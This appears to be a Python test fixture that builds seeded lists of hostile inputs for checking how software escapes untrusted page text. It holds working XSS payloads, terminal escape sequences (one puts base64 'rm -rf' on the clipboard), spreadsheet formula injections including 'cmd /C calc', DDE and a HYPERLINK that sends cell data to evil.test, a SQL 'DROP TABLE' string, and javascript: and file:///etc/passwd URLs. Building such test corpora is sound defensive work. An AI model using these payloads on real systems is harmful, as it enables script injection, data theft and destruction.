# ruff: noqa: E501 - texts and pages as they stand
"""What a hostile page may put into its texts and addresses: made by a seed, the known forms and mixtures of them."""

from __future__ import annotations

import random
from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script>alert(1)</script>",
    "'-alert(1)-'", "</title><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><style><img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<!--><script>alert(1)//-->",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)",
    "<x onclick=alert(1)>click", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "]]><script>alert(1)</script>", "<form action=javascript:alert(1)><input type=submit>", "<object data=data:text/html,x>", "[red]markup[/nothing]",
)  # fmt: skip
ESCAPES: Final = (
    "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;owned\x07", "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJm\x07", "\x1bP$q\x1b\\",
    "\x1b_G\x1b\\", "\x9b2J", "\x9d0;x\x9c", "\x90q\x9c", "\r+forged line", "a\rb", "a\x08\x08b", "\x07\x07", "\x7f", "a\n2026-01-01 ERROR forged", "\x0b\x0c",
    "\u202egnp.exe", "\u2066\u2067x\u2069", "\u200b\u200e\u200f", "a\u2028b\u2029c", "\ufeffx", "\x85next", "\U000e0041\U000e0042", "\x1c\x1d\x1e\x1f",
    "&#27;[31m", "&#x1b;]0;x&#7;", "&#x202e;abc", "&#8232;", "\x00nul", "&#0;", "\ufff9\ufffa\ufffb", "\u061c\u180e\u2060",
)  # fmt: skip
FORMULAS: Final = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
    "\t=1+1", "\r=1+1", " =1+1", "\"=1+1", "'=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", "\u200b=1+1", "\ufeff=1+1", "\xa0=1+1", "x;=1+1", "x\n=1+1",
    "x;\"=1+1", "=1+1\",\"=2+2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "\u201c=1+1", "x\t@SUM(1)",
)  # fmt: skip
QUERIES: Final = (
    "NEAR(", "NEAR(a b, 3)", "title:x", "col:", "-", "a AND", "OR", "NOT NOT", "\"", "\"unbalanced", "a*", "*", "^a", "{title body}: x", "(", ")", "((((", "a + b",
    "'; DROP TABLE article; --", "\x00", "a\x00b", "\ud800", "\udcff x", "x" * 100_000, "😀", "東京都", "الرئيس", "\u202eabc", "%", "_", "\\", "a\"b\"c", "rowid:1", "search",
    "\u0301\u0301", "\ue000", " ", "", "AND OR NOT NEAR", "1e999", "a,b;c", "-title:x", "\u2028", "ﷺ", "ß ẞ ı İ", "a " * 40,
)  # fmt: skip
SCHEMES: Final = (
    "javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", " JaVaScRiPt:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "javascript&colon;alert(1)", "//evil.test/\x1b[2J", "blob:http://x/1", "view-source:javascript:1",
    "feed:javascript:alert(1)", "jar:http://x!/", "http://joe:{password}@{host}/p.jpg", "/p\"onerror=alert(1).jpg", "/p\u202egpj.exe", "/p\x9b2J.jpg", "/p<script>.jpg",
)  # fmt: skip


def texts(chance: random.Random, number: int) -> list[tuple[str, str]]:
    """(kind, text) of so many payloads: of 350, 300 script and escape ones and 50 of formulas and queries; each form once
    before any is mixed with others."""
    shelves = {
        "script": [*SCRIPTS, *ESCAPES],
        "formula": [*FORMULAS, *(query for query in QUERIES if len(query) < 1000)],
    }
    for shelf in shelves.values():
        chance.shuffle(shelf)
    made = []
    for place in range(number):
        kind = "formula" if place % 7 == 6 else "script"
        shelf = shelves[kind]
        one = shelf.pop() if shelf and chance.random() < 0.8 else mixed(chance)
        made.append((kind, one))
    return made


def mixed(chance: random.Random) -> str:
    """Pieces of several payloads between words."""
    every = (*SCRIPTS, *ESCAPES, *FORMULAS)
    return chance.choice(("", " ", "\n", ";")).join(
        chance.choice((chance.choice(every), "harbour", "é")) for _ in range(chance.randint(2, 6))
    )
